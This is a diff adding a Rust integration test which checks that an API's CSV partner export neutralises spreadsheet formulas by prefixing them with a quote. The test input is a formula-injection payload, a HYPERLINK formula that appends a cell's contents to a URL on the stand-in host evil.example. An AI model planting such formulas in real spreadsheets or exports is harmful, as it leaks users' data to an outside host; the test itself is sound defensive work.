@@ -358,3 +358,23 @@ on_both_backends! {
         app.admin("GET", "/links?program_id=999999", None).await.expect(404);
     }
 }
+
+on_both_backends! {
+    async fn csv_exports_keep_formulas_as_text(app: TestApp) {
+        let seed = app.seed().await;
+        let p = seed.program_id;
+        let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
+        let r = app.admin("POST", "/partners", Some(json!({"name": name, "code": "sheet"}))).await.expect(201);
+        let id = r.body["id"].as_i64().unwrap();
+        app.admin("POST", &format!("/programs/{p}/partners"), Some(json!({"partner_id": id, "status": "approved"}))).await.expect(201);
+
+        let r = app.admin("GET", &format!("/programs/{p}/partners?format=csv"), None).await.expect(200);
+        let mut reader = csv::Reader::from_reader(r.body.as_str().unwrap().as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        let row = rows.iter().find(|r| &r[0] == id.to_string().as_str()).expect("the partner's row");
+        // The API keeps the name as given; only the spreadsheet file quotes it.
+        assert_eq!(&row[1], format!("'{name}"));
+        assert_eq!(&row[3], "sheet");
+        assert_eq!(&row[7], "0", "numbers stay numbers");
+    }
+}
